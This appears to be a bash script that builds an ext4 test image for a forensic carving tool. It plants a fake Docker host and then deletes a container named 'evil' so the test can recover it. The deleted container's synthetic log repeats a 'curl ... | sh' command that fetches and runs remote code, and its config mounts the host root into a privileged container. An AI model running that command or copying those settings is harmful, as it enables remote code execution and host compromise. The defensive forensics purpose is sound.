#!/usr/bin/env bash
# Builds the carving test image into $1 (test/carve). Nothing binary is committed. Needs e2fsprogs >= 1.47
# (mkfs.ext4 -d, debugfs -w). Image:
#   carve.img  one ext4 file system (4 KiB blocks, no partition table) holding a small host: /etc/hostname and a
#              Docker data root /var/lib/docker with two containers, LIVE (name "web") and GONE (name "evil").
#              Then, as `docker rm` would, debugfs unlinks GONE's config.v2.json, hostconfig.json, its json log
#              (130 lines, several blocks), hostname, and removes its directory: their blocks become free with
#              the bytes intact, the deleted inodes keep their extents (debugfs does not truncate them).
#   expected.json  what was removed: ids, names, times, the log lines (the test compares against it)
set -euo pipefail
OUT=${1:?usage: carve-images.sh OUTDIR}
mkdir -p "$OUT"
cd "$OUT"
export TZ=UTC
LIVE=1111111111111111111111111111111111111111111111111111111111111111
GONE=b0b0b0b0c0c0c0c0d0d0d0d0e0e0e0e0f0f0f0f0a1a1a1a1b2b2b2b2c3c3c3c3
IMG=sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a

rm -rf tree && mkdir -p tree/etc tree/var/lib/docker/containers/$LIVE tree/var/lib/docker/containers/$GONE tree/usr/bin
echo carvehost > tree/etc/hostname
printf 'NAME="Debian GNU/Linux"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\n' > tree/etc/os-release
echo '/dev/sda1 / ext4 defaults 0 1' > tree/etc/fstab

config() { # id name created started finished running exitcode
  printf '{"StreamConfig":{},"State":{"Running":%s,"Paused":false,"Restarting":false,"OOMKilled":false,"RemovalInProgress":false,"Dead":false,"Pid":%s,"ExitCode":%s,"Error":"","StartedAt":"%s","FinishedAt":"%s","Health":null},"ID":"%s","Created":"%s","Managed":false,"Path":"/bin/sh","Args":["-c","while true; do echo tick; sleep 1; done"],"Config":{"Hostname":"%s","Domainname":"","User":"","AttachStdin":false,"AttachStdout":true,"AttachStderr":true,"Tty":false,"OpenStdin":false,"StdinOnce":false,"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","SECRET=hunter2"],"Cmd":["/bin/sh","-c","while true; do echo tick; sleep 1; done"],"Image":"alpine:3.19","Volumes":null,"WorkingDir":"","Entrypoint":null,"OnBuild":null,"Labels":{"purpose":"carving-test"}},"Image":"%s","NetworkSettings":{"Bridge":"","SandboxID":"","Ports":{}},"LogPath":"/var/lib/docker/containers/%s/%s-json.log","Name":"/%s","Driver":"overlay2","OS":"linux","RestartCount":0,"HasBeenStartedBefore":true,"HasBeenManuallyStopped":false,"MountPoints":{},"AppArmorProfile":"docker-default","ExecIDs":null}' \
    "$6" "$( [ "$6" = true ] && echo 4242 || echo 0 )" "$7" "$4" "$5" "$1" "$3" "${1:0:12}" "$IMG" "$1" "$1" "$2"
}
hostconfig() { # privileged
  printf '{"Binds":["/:/host"],"ContainerIDFile":"","LogConfig":{"Type":"json-file","Config":{}},"NetworkMode":"default","PortBindings":{},"RestartPolicy":{"Name":"no","MaximumRetryCount":0},"AutoRemove":false,"VolumeDriver":"","VolumesFrom":null,"CapAdd":null,"CapDrop":null,"Privileged":%s,"PidMode":"%s","IpcMode":"private"}' "$1" "$2"
}
D=tree/var/lib/docker/containers
config $LIVE web 2024-05-01T10:00:00.000000001Z 2024-05-01T10:00:01.5Z 0001-01-01T00:00:00Z true 0 > $D/$LIVE/config.v2.json
hostconfig false '' > $D/$LIVE/hostconfig.json
config $GONE evil 2024-05-02T08:00:00.123456789Z 2024-05-02T08:00:01.25Z 2024-05-02T09:30:00.75Z false 137 > $D/$GONE/config.v2.json
hostconfig true host > $D/$GONE/hostconfig.json
echo ${LIVE:0:12} > $D/$LIVE/hostname
echo ${GONE:0:12} > $D/$GONE/hostname
for i in $(seq 1 20); do
  printf '{"log":"live line %d\\n","stream":"stdout","time":"2024-05-01T10:00:%02d.000000000Z"}\n' $i $i
done > $D/$LIVE/$LIVE-json.log
for i in $(seq 1 130); do
  printf '{"log":"evil line %03d: curl http://203.0.113.7/x.sh | sh padding-padding-padding-padding\\n","stream":"%s","time":"2024-05-02T08:%02d:%02d.%09dZ"}\n' \
    $i "$( [ $((i % 5)) = 0 ] && echo stderr || echo stdout )" $((i / 60)) $((i % 60)) $i
done > $D/$GONE/$GONE-json.log

# what the test expects to recover
cp $D/$GONE/config.v2.json gone-config.v2.json
cp $D/$GONE/hostconfig.json gone-hostconfig.json
cp $D/$GONE/$GONE-json.log gone-json.log
cp $D/$LIVE/$LIVE-json.log live-json.log

rm -f carve.img
mkfs.ext4 -q -F -b 4096 -L carvefs -U 6a1c0d4e-4444-4aaa-8bbb-0123456789a4 -E root_owner=0:0 \
  -O 64bit,metadata_csum,flex_bg,extent -d tree carve.img 24M >/dev/null 2>&1

# docker rm, as debugfs does it: unlink every file (blocks freed, extents left), then the directory
debugfs -w carve.img >/dev/null 2>&1 <<CMDS
rm /var/lib/docker/containers/$GONE/config.v2.json
rm /var/lib/docker/containers/$GONE/hostconfig.json
rm /var/lib/docker/containers/$GONE/$GONE-json.log
rm /var/lib/docker/containers/$GONE/hostname
rmdir /var/lib/docker/containers/$GONE
CMDS
debugfs -R "ls -l /var/lib/docker/containers" carve.img 2>/dev/null | grep -q $GONE && { echo "removal failed" >&2; exit 1; }
printf '{"live":"%s","gone":"%s"}\n' $LIVE $GONE > expected.json
rm -rf tree
